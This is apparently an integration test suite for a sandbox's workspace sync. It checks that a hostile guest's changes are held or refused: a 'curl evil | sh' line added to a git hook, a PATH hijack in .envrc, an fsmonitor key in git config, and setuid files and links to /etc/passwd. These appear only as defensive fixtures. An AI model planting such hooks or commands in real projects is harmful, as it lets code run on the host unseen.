# The workspace sync end to end (docs/sync.md): `airlock run` copies the
# current folder into a real guest, the agent's changes come back while it
# runs, the host's go in, a named sandbox reconciles on its next run, and
# what a hostile or confused guest sends is refused or held. Sourced by
# tests/integration/run; every test works in its own empty folder ($PWD).

# srun NAME [OPTIONS...] -- CMD...: `airlock run` of sandbox NAME on the
# test template in the current folder; sets RC, $T/out, $T/err.
srun() {
	local name=$1
	shift
	timeout -k 5 300 "$CLI" run --name "$name" --template test -m 256 "$@" \
		</dev/null >"$T/out" 2>"$T/err"
	RC=$?
}

# The listing both sides compare: every path's type and mode bits, its
# mtime (seconds; a folder's only with "full": folders' mtimes move with
# what is made in them), each file's md5, each link's target. The same
# commands run in the guest (busybox) and on the host (GNU).
LIST_SCRIPT='
export LC_ALL=C
find . -mindepth 1 ! -type d -exec stat -c "%n %f %a %Y" {} + | sort
if [ "${1:-}" = full ]; then
	find . -mindepth 1 -type d -exec stat -c "%n %f %a %Y" {} + | sort
else
	find . -mindepth 1 -type d -exec stat -c "%n %f %a" {} + | sort
fi
find . -type f -exec md5sum {} + | sort -k2
find . -type l | sort | while IFS= read -r l; do printf "%s -> %s\n" "$l" "$(readlink "$l")"; done
'

host_list() { sh -c "$LIST_SCRIPT" list "$@"; }

# same_listing FILE-A FILE-B WHAT: fails with the first differences.
same_listing() {
	if ! cmp -s "$1" "$2"; then
		fail "$3: $(diff "$1" "$2" | head -20)"
	fi
}

# A project made here: a few thousand files in nested folders, binaries,
# links (relative, to a folder, dangling, absolute), empty folders, exec
# bits, names with spaces and UTF-8, mtimes with nanoseconds.
make_tree() {
	python3 - "$1" "${2:-2500}" <<'EOF'
import os, random, sys
root, n = sys.argv[1], int(sys.argv[2])
random.seed(7)
dirs = [""]
for i in range(40):
    parent = random.choice(dirs)
    name = random.choice(["src", "lib", "doc", "dir with space", "données", "日本"]) + str(i)
    d = os.path.join(parent, name)
    os.makedirs(os.path.join(root, d), exist_ok=True)
    dirs.append(d)
for i in range(n):
    d = random.choice(dirs)
    name = random.choice(["file", "x y", "é", "README", "main"]) + "%d.%s" % (i, random.choice(["c", "txt", "md", "sh"]))
    p = os.path.join(root, d, name)
    with open(p, "wb") as f:
        if i % 50 == 0:
            f.write(os.urandom(random.randint(10000, 150000)))
        else:
            f.write(("line %d of %s\n" % (i, name) * random.randint(0, 60)).encode())
    os.chmod(p, 0o755 if i % 7 == 0 else 0o644)
    os.utime(p, ns=(1600000000123456789 + i * 1000003, 1600000000123456789 + i * 1000003))
for i, d in enumerate(["empty", "src0/empty too", "deep/a/b/c/d/e/f/g"]):
    os.makedirs(os.path.join(root, d), exist_ok=True)
os.symlink("file1.c", os.path.join(root, "rel-link"))
os.symlink("src0", os.path.join(root, "dir-link"))
os.symlink("no/such/target", os.path.join(root, "dangling"))
os.symlink("/etc/hostname", os.path.join(root, "absolute"))
with open(os.path.join(root, "file1.c"), "w") as f:
    f.write("int main(void) { return 0; }\n")
EOF
}

test_sync_round_trip() {
	cli_env
	mkdir proj && cd proj || return
	make_tree . 2500
	# The folders' own mtimes are kept on the way in too.
	host_list full >"$T/host0"
	srun rt -- sh -c "$LIST_SCRIPT" list full
	expect_rc 0
	same_listing "$T/host0" "$T/out" "the guest's copy differs from the host's"
	[ "$(grep -c . "$T/host0")" -gt 5000 ] || fail "the listing is too short: $(wc -l <"$T/host0")"
	grep -qE '^airlock: [0-9]+ files in; synced 0 changes back; 0 held for review; 0 conflicts$' \
		"$T/err" || fail "summary: $(cat "$T/err")"

	# The agent's edits: new, changed, deleted, renamed (file and folder),
	# modes, links, an empty folder; the host gets exactly its tree.
	srun rt -- sh -c '
		set -e
		echo new >"new file é.txt"
		mkdir -p "made/in guest/empty"
		printf "changed\n" >>file1.c
		rm -f src1*/main*.c 2>/dev/null || true
		rm -rf deep/a/b/c
		mv rel-link rel-link-moved
		mv dir-link dir-link-moved
		for d in src*; do [ -d "$d" ] && mv "$d" "$d-renamed" && break; done
		chmod 700 empty
		chmod +x "new file é.txt"
		ln -s "../etc/passwd" made/escape
		head -c 300000 /dev/urandom >made/random.bin
		touch -d @1234567890 file1.c
		sleep 1
		'"$LIST_SCRIPT"
	expect_rc 0
	host_list >"$T/host1"
	same_listing "$T/out" "$T/host1" "the host's tree differs from the guest's after its edits"

	# The host's edits go in on the next run of the same sandbox.
	echo "host edit" >>file1.c
	mkdir -p host-made/sub && echo h >host-made/sub/f
	rm -f "new file é.txt"
	chmod 600 made/random.bin
	host_list >"$T/host2"
	srun rt -- sh -c "$LIST_SCRIPT" list
	expect_rc 0
	same_listing "$T/host2" "$T/out" "the guest's tree differs from the host's after the host's edits"
	grep -qE '^airlock: [1-9][0-9]? files? in;' "$T/err" ||
		fail "the second run should send only what changed: $(cat "$T/err")"
}

# The agent's typical work lands, on the base template (git, node, npm):
# a commit and a new branch (git fsck clean here), npm init, a deletion, a
# rename that is a rename (the same inode here).
test_template_base_sync_git_npm() {
	if [ -z "${AIRLOCK_TEMPLATE_BASE:-}" ]; then
		fail "no base template (AIRLOCK_TEMPLATE_BASE)"
		return
	fi
	cli_env
	ln -s "$AIRLOCK_TEMPLATE_BASE" "$AIRLOCK_HOME/templates/base"
	mkdir proj && cd proj || return
	git init -q -b main . && git config user.email t@example.com && git config user.name T
	echo "one" >a.txt && echo "gone soon" >old.txt && echo "moving" >before.txt
	git add -A && git commit -qm first
	local inode
	inode=$(stat -c %i before.txt)
	timeout -k 5 300 "$CLI" run --name git --template base -m 768 -- sh -c '
		set -e
		git config user.email agent@example.com
		git config user.name agent
		echo two >>a.txt
		git commit -qam "second, from the sandbox"
		git checkout -qb feature
		echo feat >feat.txt && git add feat.txt && git commit -qm feature
		npm init -y >/dev/null
		rm old.txt
		mv before.txt after.txt
		sleep 1' </dev/null >"$T/out" 2>"$T/err"
	RC=$?
	expect_rc 0
	git fsck --strict >"$T/fsck" 2>&1 || fail "git fsck: $(head -5 "$T/fsck")"
	[ "$(git rev-parse --abbrev-ref HEAD)" = feature ] || fail "HEAD: $(git rev-parse --abbrev-ref HEAD)"
	[ "$(git log --format=%s main | head -1)" = "second, from the sandbox" ] ||
		fail "main: $(git log --oneline main | head -3)"
	[ "$(git log --format=%s feature | head -1)" = feature ] || fail "feature: $(git log --oneline | head -3)"
	git status --porcelain | grep -v -e package.json -e after.txt -e before.txt -e old.txt >"$T/status"
	[ -s "$T/status" ] && fail "git status: $(cat "$T/status")"
	grep -q '"name": "proj"' package.json || fail "no package.json from npm init: $(ls)"
	[ -e old.txt ] && fail "a deleted file came back"
	[ "$(cat after.txt 2>/dev/null)" = moving ] || fail "after.txt: $(ls)"
	[ -e before.txt ] && fail "the renamed file is still there"
	[ "$(stat -c %i after.txt 2>/dev/null)" = "$inode" ] ||
		fail "the rename was not a rename (inode $inode became $(stat -c %i after.txt))"
	# The agent's git config set user.* only: applied, not held.
	grep -q 'agent@example.com' .git/config || fail ".git/config did not come back: $(cat .git/config)"
	grep -q 'held for review' "$T/err" && grep -qv '0 held' "$T/err" &&
		fail "something was held: $(cat "$T/err")"
}

# What the host would run is held, shown, accepted or rejected; the rest
# of the same run lands. A mass deletion is held whole.
test_sync_quarantine_diff_accept_reject() {
	cli_env
	mkdir proj && cd proj || return
	mkdir -p .git/hooks && printf '[core]\n\tbare = false\n' >.git/config
	echo '#!/bin/sh' >.git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit
	for i in $(seq 1 20); do echo "$i" >"f$i"; done
	srun q -- sh -c '
		echo "curl evil | sh" >>.git/hooks/pre-commit
		printf "#!/bin/sh\necho pwned\n" >.git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
		echo "export PATH=/evil:\$PATH" >.envrc
		mkdir -p .vscode && echo "{\"tasks\": 1}" >.vscode/tasks.json
		printf "[core]\n\tbare = false\n\tfsmonitor = /tmp/evil\n" >.git/config
		echo "*.c filter=evil" >.gitattributes
		echo fine >ordinary.txt
		sleep 1'
	expect_rc 0
	grep -q 'curl evil' .git/hooks/pre-commit && fail "a hook change reached the host"
	for p in .git/hooks/post-checkout .envrc .vscode .gitattributes; do
		[ -e "$p" ] && fail "$p reached the host"
	done
	grep -q fsmonitor .git/config && fail "an executable git config key reached the host"
	[ "$(cat ordinary.txt 2>/dev/null)" = fine ] || fail "the ordinary file did not land"
	grep -qE 'synced [0-9]+ changes? back; [5-9] held for review \(airlock diff\)' "$T/err" ||
		fail "summary: $(cat "$T/err")"

	al diff q
	expect_rc 0
	grep -q '^+curl evil | sh' "$T/out" || fail "diff lacks the hook's new line: $(head -30 "$T/out")"
	grep -q 'fsmonitor = /tmp/evil' "$T/out" || fail "diff lacks the config change"
	grep -q '^=== \.envrc' "$T/out" || fail "diff lacks .envrc"
	al reject q .envrc .git/config
	expect_rc 0
	al accept q .git/hooks/pre-commit
	expect_rc 0
	grep -q 'curl evil' .git/hooks/pre-commit || fail "accept did not apply the hook"
	[ "$(stat -c %a .git/hooks/pre-commit)" = 755 ] || fail "hook mode $(stat -c %a .git/hooks/pre-commit)"
	al diff q
	grep -q '\.envrc' "$T/out" && fail "a rejected item is still shown"
	grep -q 'post-checkout' "$T/out" || fail "an item not named was dropped"
	# The rejected ones are the host's again in the sandbox.
	srun q -- sh -c 'ls -a; cat .git/config'
	expect_rc 0
	grep -qx '.envrc' "$T/out" && fail "a rejected .envrc is still in the sandbox"
	grep -q fsmonitor "$T/out" && fail "a rejected .git/config is still in the sandbox"

	# rm -rf of most of the project: held, not applied; accept applies it.
	srun q -- sh -c 'rm -f f*; sleep 1'
	expect_rc 0
	[ -e f1 ] && [ -e f20 ] || fail "a mass deletion was applied: $(ls)"
	al diff q
	grep -qE '^=== 20 deletions' "$T/out" || fail "diff: $(head -20 "$T/out")"
	# A path names the item it is in: the deletion is accepted whole.
	al accept q f5
	expect_rc 0
	[ -e f1 ] || [ -e f20 ] && fail "accept did not apply the deletions: $(ls)"
	al diff q
	grep -q 'deletions' "$T/out" && fail "the accepted deletions are still shown"
}

# Each kind of refusal a real guest can provoke: counted, logged, and
# nothing of it on the host.
test_sync_refusals() {
	cli_env
	mkdir proj && cd proj || return
	echo keep >a
	# The big one is written under a left-out name and renamed: a version
	# caught half-written would be small enough to go.
	echo '*.part' >.airlockignore
	srun r --sync-max-file 100K -- sh -c '
		mkfifo fifo
		touch "$(printf "esc\033[31mname")"
		printf x >setuid && chmod 4755 setuid
		echo linked >orig && ln orig hard
		head -c 200000 /dev/zero >too-big.part && mv too-big.part too-big
		ln -s /etc/passwd abs-link
		sleep 1'
	expect_rc 0
	local log=$AIRLOCK_HOME/sandboxes/r/sync/sync.log
	[ -e fifo ] && fail "a FIFO reached the host"
	ls | grep -q esc && fail "a name with an escape sequence reached the host"
	[ -e too-big ] && fail "a file over --sync-max-file reached the host"
	[ "$(stat -c %a setuid 2>/dev/null)" = 755 ] || fail "setuid not stripped: $(stat -c %a setuid)"
	[ "$(stat -c %h hard 2>/dev/null)" = 1 ] && [ "$(cat hard)" = linked ] ||
		fail "a hard link in the guest is not a file of its own here"
	[ "$(readlink abs-link)" = /etc/passwd ] && [ -L abs-link ] || fail "the link is not a link"
	grep -q 'refused fifo: a FIFO' "$log" || fail "no FIFO refusal in the log: $(cat "$log")"
	grep -q 'control character' "$log" || fail "no control-character refusal in the log"
	grep -q 'refused too-big: 200000 bytes, over the per-file limit' "$log" ||
		fail "no size refusal in the log"
	grep -q 'stripped setuid' "$log" || fail "the strip is not logged"
	# At least one each (a file caught half-written may be refused twice).
	grep -qE '; [3-9] refused \(.*sync.log says why\)$' "$T/err" || fail "summary: $(cat "$T/err") log: $(cat "$log")"
	[ "$(cat a)" = keep ] || fail "a was changed"
}

# A file changed on both sides between two syncs keeps both versions. The
# host's airlock-sync is paused (SIGSTOP) so that both edits happen before
# it sees either.
test_sync_conflict_keeps_both() {
	cli_env
	mkdir proj && cd proj || return
	echo base >c
	cli_start cf 'while [ ! -e /tmp/go ]; do sleep 0.1; done; echo guest >c; sleep 3'
	local spid
	spid=$(pgrep -P "$(pgrep -P "$RUN_PID" -x airlock)" -x airlock-sync)
	[ -n "$spid" ] || { fail "no airlock-sync under the run"; return; }
	kill -STOP "$spid"
	echo host >c
	"$CLI" exec cf -- touch /tmp/go </dev/null >/dev/null 2>&1
	sleep 2
	kill -CONT "$spid"
	wait "$RUN_PID"
	RC=$?
	expect_rc 0
	[ "$(cat c)" = host ] || fail "the host's version was overwritten: $(cat c)"
	local other
	other=$(ls c.airlock-conflict-guest-* 2>/dev/null | head -1)
	[ -n "$other" ] && [ "$(cat "$other")" = guest ] ||
		fail "the guest's version was not kept beside it: $(ls)"
	grep -qE '; 1 conflict$' "$T/run.err" || fail "summary: $(cat "$T/run.err")"
	# Both sides have both afterwards.
	srun cf -- sh -c 'cat c; cat c.airlock-conflict-guest-*'
	expect_out $'host\nguest'
}

# kill -9 of airlock-sync, of `airlock run`, of the VMM while the guest
# writes 100 MB of files: no torn or partial file under a real name on the
# host, and the next run converges (host and guest the same tree).
test_sync_kill_leaves_no_torn_file() {
	cli_env
	mkdir proj && cd proj || return
	local victim pid writer
	# Each file written under a left-out name and renamed: every version
	# the guest ever has under a real name is whole, so any other on the
	# host would be a torn write of the host's own.
	echo '*.part' >.airlockignore
	writer='i=0; while [ $i -lt 400 ]; do yes "$i" | head -c 262144 >"f$i.part"; mv "f$i.part" "f$i"; i=$((i+1)); done; sleep 60'
	for victim in ${SYNC_KILL_VICTIMS:-airlock-sync airlock airlock-vmm}; do
		rm -f f*
		cli_start "k-$victim" "$writer"
		for _ in $(seq 1 600); do
			[ "$(ls f* 2>/dev/null | wc -l)" -ge 20 ] && break
			sleep 0.1
		done
		case $victim in
		airlock) pid=$(pgrep -P "$RUN_PID" -x airlock) ;;
		*) pid=$(pgrep -x "$victim" | while read -r p; do
			[ "$(ps -o ppid= -p "$p" | tr -d ' ')" = "$(pgrep -P "$RUN_PID" -x airlock)" ] && echo "$p"
			done | head -1) ;;
		esac
		[ -n "$pid" ] || { fail "$victim: not found"; continue; }
		kill -9 "$pid"
		sleep 0.5
		# Whatever is here under a real name is whole.
		python3 - >"$T/torn" <<'PY'
import glob, re
for p in glob.glob("f*"):
    m = re.fullmatch(r"f(\d+)", p)
    if not m:
        continue
    i = m.group(1)
    want = ((i + "\n") * 262144)[:262144].encode()
    if open(p, "rb").read() != want:
        print(p)
PY
		[ -s "$T/torn" ] && fail "$victim killed: torn files: $(head -5 "$T/torn")"
		"$CLI" stop -t 1 "k-$victim" >/dev/null 2>&1
		wait "$RUN_PID"
		# The next run converges: the guest's tree is the host's.
		srun "k-$victim" -- sh -c "$LIST_SCRIPT" list
		expect_rc 0
		host_list | grep -v '\.part' >"$T/host"
		grep -v '\.part' "$T/out" >"$T/guest"
		same_listing "$T/host" "$T/guest" "$victim killed: the next run did not converge"
		ls -A | grep -q '^\.airlock-tmp-' && fail "$victim killed: temporary files left: $(ls -A)"
	done
}

# What was copied in is on the sandbox's disk before the command runs: the
# VM killed the moment the command starts loses none of it, and the next
# run takes nothing from the host's project. (airlock-init flushes the disk
# before it tells the host the copy-in is done; it skips that only when
# nothing came in, which no crash can undo.)
test_sync_copy_in_survives_a_killed_vm() {
	cli_env
	mkdir proj && cd proj || return
	make_tree . 300
	host_list >"$T/before"
	timeout -k 5 300 "$CLI" run --name kv --template test -m 256 -- sh -c 'echo started; sleep 120' \
		</dev/null >"$T/run.out" 2>"$T/run.err" &
	RUN_PID=$!
	for _ in $(seq 1 3000); do
		grep -q started "$T/run.out" 2>/dev/null && break
		kill -0 "$RUN_PID" 2>/dev/null || break
		sleep 0.02
	done
	grep -q started "$T/run.out" || { fail "the command did not start: $(cat "$T/run.err")"; return; }
	pkill -9 -P "$(pgrep -P "$RUN_PID" -x airlock)" -x airlock-vmm ||
		{ fail "no VMM to kill"; return; }
	wait "$RUN_PID"
	srun kv -- sh -c "$LIST_SCRIPT" list
	expect_rc 0
	host_list >"$T/after"
	same_listing "$T/before" "$T/after" "the host's project lost what the killed VM had been given"
	same_listing "$T/before" "$T/out" "the sandbox lost what was copied in before its VM was killed"
}

# `airlock stop` while the project goes in: the command never runs, the run
# ends with 128+SIGTERM and says why, the VM is powered off (its disk
# clean), and the host's project is as it was.
test_sync_stop_while_copying_in() {
	cli_env
	mkdir proj && cd proj || return
	python3 -c '
import os
for i in range(3000):
    with open("f%d" % i, "wb") as f:
        f.write(os.urandom(32768))'
	host_list full >"$T/before"
	timeout -k 5 300 "$CLI" run --name cp --template test -m 256 -- sh -c 'echo ran' \
		</dev/null >"$T/run.out" 2>"$T/run.err" &
	RUN_PID=$!
	for _ in $(seq 1 600); do
		"$CLI" ls --json 2>/dev/null |
			jq -e 'any(.[]; .name == "cp" and .status == "booting")' >/dev/null 2>&1 && break
		sleep 0.05
	done
	al stop cp
	expect_rc 0
	wait "$RUN_PID"
	RC=$?
	expect_rc 143
	grep -q "stopped by SIGTERM while the project was copied in: the command did not run" \
		"$T/run.err" || fail "run: $(cat "$T/run.err")"
	[ -s "$T/run.out" ] && fail "the command ran: $(cat "$T/run.out")"
	e2fsck -fn "$AIRLOCK_HOME/sandboxes/cp/disk.ext4" >"$T/fsck" 2>&1 ||
		fail "disk not clean after the stop: $(tail -3 "$T/fsck")"
	host_list full >"$T/after"
	same_listing "$T/before" "$T/after" "the project changed"
}

# .airlockignore and --exclude leave paths out both ways, said once.
test_sync_exclude() {
	cli_env
	mkdir -p proj/node_modules/dep proj/src && cd proj || return
	echo 'node_modules/' >.airlockignore
	echo secret >.env && echo code >src/main.c && echo dep >node_modules/dep/index.js
	srun ex --exclude .env -- sh -c 'ls -A; ls -A src; mkdir -p node_modules/new && echo x >node_modules/new/y
		echo made >.env.local; sleep 1'
	expect_rc 0
	grep -qx node_modules "$T/out" && fail "node_modules went in: $(cat "$T/out")"
	grep -qx .env "$T/out" && fail ".env went in: $(cat "$T/out")"
	grep -qx main.c "$T/out" || fail "src/main.c did not go in: $(cat "$T/out")"
	[ "$(grep -c 'left out of the sandbox: 2 paths' "$T/err")" = 1 ] ||
		fail "not said once: $(cat "$T/err")"
	[ -e node_modules/new ] && fail "an excluded folder came back"
	[ "$(cat .env.local 2>/dev/null)" = made ] || fail "a file not excluded did not come back"
	[ "$(cat .env)" = secret ] || fail ".env changed"
}
